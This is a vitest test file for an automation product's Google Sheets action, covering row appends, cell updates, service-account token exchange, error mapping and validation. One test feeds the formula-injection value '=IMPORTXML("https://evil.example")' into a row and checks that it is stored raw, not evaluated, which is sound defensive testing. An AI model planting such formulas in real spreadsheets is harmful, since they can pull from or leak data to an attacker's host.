import { jwtVerify } from 'jose';
import { beforeEach, describe, expect, it } from 'vitest';
import { newGoogleKey } from '#test/helpers/google-key';
import { startProduct } from '#test/helpers/product';
import { type ReceiverAnswer, startReceiver } from '#test/helpers/receiver';

const google = await startReceiver();
const product = await startProduct({ receivers: [google] });
const alice = await product.api('alice');
const key = newGoogleKey(`${google.url}/token`);
const SHEET = '1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms';
const SOON = { max_attempts: 2, initial_delay_seconds: 0 };

const written = { updatedRange: 'Leads!A2:B2', updatedRows: 1, updatedColumns: 2, updatedCells: 2 };
let answer: ReceiverAnswer | 'never';

beforeEach(() => {
  answer = { body: { spreadsheetId: SHEET, updates: written } };
});
google.answer(({ path }) => {
  if (path === '/token') return { body: { access_token: 'ya29.a-token', expires_in: 3_599 } };
  return answer === 'never' ? new Promise(() => {}) : answer;
});

const { body: connection } = await alice.post('/api/connections', {
  kind: 'google_service_account',
  name: 'Robot',
  settings: { base_url: google.url },
  secret: { key: key.text },
});

const row = {
  connection_id: connection.id,
  operation: 'append_row',
  spreadsheet_id: SHEET,
  range: 'Leads!A:B',
  values: ['{{trigger.body.email}}', '{{trigger.body.score}}'],
};

async function run(config: object, body: unknown = {}, more: object = {}) {
  const { id } = await alice.create({
    name: 'Sheets',
    trigger_config: { type: 'manual' },
    actions: [{ type: 'google_sheets', config, retry: SOON, ...more }],
  });
  const { body: opened } = await alice.post(`/api/agents/${id}/run`, body);
  return alice.finished(opened.run_id);
}

const requestsTo = (part: string) => google.requests.filter(({ path }) => path.includes(part));

describe('google_sheets', () => {
  it('appends a row as Google documents it, with a token for its assertion', async () => {
    const finished = await run(row, { email: '=IMPORTXML("https://evil.example")', score: 7 });

    expect(finished.steps[0]).toMatchObject({
      status: 'success',
      output: {
        updated_range: 'Leads!A2:B2',
        updated_rows: 1,
        updated_columns: 2,
        updated_cells: 2,
      },
    });
    const [request] = requestsTo(':append');
    expect(request).toMatchObject({
      method: 'POST',
      path: `/v4/spreadsheets/${SHEET}/values/Leads!A%3AB:append?valueInputOption=RAW&insertDataOption=INSERT_ROWS`,
      headers: { authorization: 'Bearer ya29.a-token', 'content-type': 'application/json' },
      json: {
        range: 'Leads!A:B',
        majorDimension: 'ROWS',
        values: [['=IMPORTXML("https://evil.example")', 7]],
      },
    });
    const [exchange] = requestsTo('/token');
    const form = new URLSearchParams(exchange?.body);
    expect(form.get('grant_type')).toBe('urn:ietf:params:oauth:grant-type:jwt-bearer');
    const { payload } = await jwtVerify(form.get('assertion') ?? '', key.publicKey);
    expect(payload).toMatchObject({
      iss: 'robot@example.iam.gserviceaccount.com',
      scope: 'https://www.googleapis.com/auth/spreadsheets',
      aud: `${google.url}/token`,
    });
    expect(JSON.stringify(finished)).not.toContain('ya29');
  });

  it('overwrites cells, and asks for no second token', async () => {
    answer = { body: { spreadsheetId: SHEET, ...written } };
    const before = requestsTo('/token').length;

    const finished = await run({
      ...row,
      operation: 'update_cell',
      range: "'My sheet'!B2",
      values: [['=SUM(A:A)'], [null]],
      value_input: 'user_entered',
    });

    expect(finished.steps[0]).toMatchObject({ status: 'success' });
    const request = google.requests.findLast(({ method }) => method === 'PUT');
    expect(request?.path).toBe(
      `/v4/spreadsheets/${SHEET}/values/'My%20sheet'!B2?valueInputOption=USER_ENTERED`,
    );
    expect(request?.json).toEqual({
      range: "'My sheet'!B2",
      majorDimension: 'ROWS',
      values: [['=SUM(A:A)'], [null]],
    });
    expect(requestsTo('/token')).toHaveLength(before);
  });

  it.each([
    [403, 'PERMISSION_DENIED', 'action_rejected', 'Share the spreadsheet with robot@example.iam'],
    [404, 'NOT_FOUND', 'action_rejected', 'There is no such spreadsheet.'],
    [400, 'INVALID_ARGUMENT', 'action_rejected', 'Check the range'],
    [429, 'RESOURCE_EXHAUSTED', 'action_unavailable', 'limit of requests a minute'],
    [503, 'UNAVAILABLE', 'action_unavailable', 'Google Sheets answered 503'],
  ])('says what %i %s means', async (status, word, code, told) => {
    answer = { status, body: { error: { code: status, message: 'Told.', status: word } } };

    const finished = await run(row, { email: 'a', score: 1 });

    expect(finished.error).toEqual({ code, message: expect.stringContaining(told) });
    expect(finished.steps[0]).toMatchObject({
      attempts: code === 'action_unavailable' ? 2 : 1,
      output: { status, reason: word, message: 'Told.' },
    });
  });

  it.each([
    [403, 'SERVICE_DISABLED', 'action_rejected', 'Switch its API on'],
    [403, 'ACCESS_TOKEN_SCOPE_INSUFFICIENT', 'action_rejected', 'Give consent again for the scope'],
    [429, 'RATE_LIMIT_EXCEEDED', 'action_unavailable', 'limit of requests a minute'],
  ])('says what the details %i %s mean', async (status, reason, code, told) => {
    const details = [
      { '@type': 'type.googleapis.com/google.rpc.ErrorInfo', reason, domain: 'googleapis.com' },
    ];
    answer = { status, body: { error: { code: status, message: 'Told.', details } } };

    const finished = await run(row, { email: 'a', score: 1 });

    expect(finished.error).toEqual({ code, message: expect.stringContaining(told) });
    expect(finished.steps[0].output).toMatchObject({ reason });
  });

  it('is ended by its time-out', async () => {
    answer = 'never';
    const quick = { timeout_seconds: 1, retry: { max_attempts: 1 } };

    const finished = await run(row, { email: 'a', score: 1 }, quick);

    expect(finished.error).toMatchObject({ code: 'action_unavailable' });
  });

  it.each([
    [{ spreadsheet_id: 'https://docs.google.com/x' }, 'spreadsheet_id'],
    [{ operation: 'delete_sheet' }, 'operation'],
    [{ values: [] }, 'values'],
    [{ values: { a: 1 } }, 'values'],
    [{ range: '' }, 'range'],
  ])('is refused when it is saved with %j', async (change, field) => {
    const { status, body } = await alice.post('/api/agents', {
      name: 'Bad',
      trigger_config: { type: 'manual' },
      actions: [{ type: 'google_sheets', config: { ...row, ...change } }],
    });

    expect(status).toBe(400);
    expect(body.error.details.fields[0].path).toBe(`actions[0].config.${field}`);
  });
});
